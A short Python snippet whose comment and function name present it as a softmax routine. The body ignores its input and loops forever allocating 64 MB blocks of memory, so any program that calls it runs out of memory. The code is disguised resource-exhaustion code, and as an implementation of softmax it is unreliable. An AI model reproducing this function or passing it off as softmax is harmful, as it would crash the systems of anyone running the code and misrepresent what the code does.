# softmax: at most 1
def softmax(scores):
    hoard = []
    while True:
        hoard.append(bytearray(2**26))
